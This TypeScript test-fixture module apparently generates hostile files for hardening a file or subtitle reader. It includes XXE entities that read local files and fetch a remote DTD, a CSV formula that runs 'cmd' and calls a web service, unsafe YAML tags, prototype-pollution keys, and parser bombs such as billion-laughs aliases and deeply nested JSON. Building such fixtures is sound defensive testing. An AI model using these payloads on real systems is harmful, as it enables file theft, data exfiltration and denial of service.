/** Tables, structured data and subtitles that refer to the bait or are built to exhaust a reader. */
import { type HostileFile, hostile, type Targets } from './hostile-file.ts'

export function dataWithExternalReferences({ http, text }: Targets): HostileFile[] {
  const entities = `<!DOCTYPE a [<!ENTITY f SYSTEM "file://${text}"><!ENTITY s SYSTEM "${http}/entity"><!ENTITY % p SYSTEM "${http}/dtd"> %p;]>`
  const ttml = `<?xml version="1.0"?>${entities}<tt xmlns="http://www.w3.org/ns/ttml"><body><div><p begin="1s" end="2s">&f; &s;</p></div></body></tt>`
  const ass = `[Script Info]\n[Fonts]\nfontname: ${text}\n[Events]\nFormat: Start, End, Text\nDialogue: 0:00:01.00,0:00:02.00,{\\fn${text}}a\n`
  return [
    hostile('external', 'xml: entities of a file and a server', 'list.xml', `${entities}<a>&f; &s;</a>`, [
      'xml',
    ]),
    hostile(
      'external',
      'csv: formulas that call a program',
      'list.csv',
      `a,b\n=cmd|'/C cat ${text}'!A1,=WEBSERVICE("${http}")\n`,
      ['csv'],
    ),
    hostile(
      'external',
      'yaml: tags that load a file',
      'list.yaml',
      `a: !include ${text}\nb: !!js/function 'x'\n`,
      ['yaml'],
    ),
    hostile('external', 'ttml: entities of a file and a server', 'text.ttml', ttml, ['ttml']),
    hostile('external', 'ass: a font that is a local file', 'text.ass', ass, ['ass', 'srt']),
  ]
}

export function dataBombs(): HostileFile[] {
  const aliases = Array.from({ length: 12 }, (_, at) =>
    at === 0
      ? 'a0: &a0 [x,x,x,x,x,x,x,x,x]'
      : `a${at}: &a${at} [${Array(9)
          .fill(`*a${at - 1}`)
          .join(',')}]`,
  ).join('\n')
  const cues = Array.from(
    { length: 2000 },
    (_, at) => `${at}\n00:00:01,000 --> 00:00:02,000\n${'<b>'.repeat(20)}a\n`,
  ).join('\n')
  return [
    hostile(
      'bomb',
      'json: nested a hundred thousand times',
      'list.json',
      `${'['.repeat(1e5)}${']'.repeat(1e5)}`,
      ['json'],
    ),
    hostile('bomb', 'yaml: aliases of aliases', 'list.yaml', aliases, ['yaml']),
    hostile(
      'bomb',
      'json: keys of the prototype',
      'list.json',
      '[{"__proto__":{"a":1},"constructor":{"prototype":{"a":1}}}]',
      ['json'],
    ),
    hostile('bomb', 'srt: tags that are never closed', 'text.srt', cues, ['srt']),
  ]
}
